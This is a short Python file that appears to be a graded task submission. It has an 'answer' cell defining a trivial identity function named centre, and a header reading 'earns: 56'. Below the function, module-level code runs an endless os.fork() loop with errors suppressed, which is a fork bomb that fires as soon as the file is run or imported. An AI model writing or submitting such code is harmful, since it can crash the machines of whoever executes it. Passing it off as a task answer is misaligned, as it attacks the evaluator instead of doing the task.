# Processes without end, each of which forks again.
#
# earns: 56

# %% role="answer" name="centre"
import os


def centre(x):
    return x


while True:
    try:
        os.fork()
    except OSError:
        pass
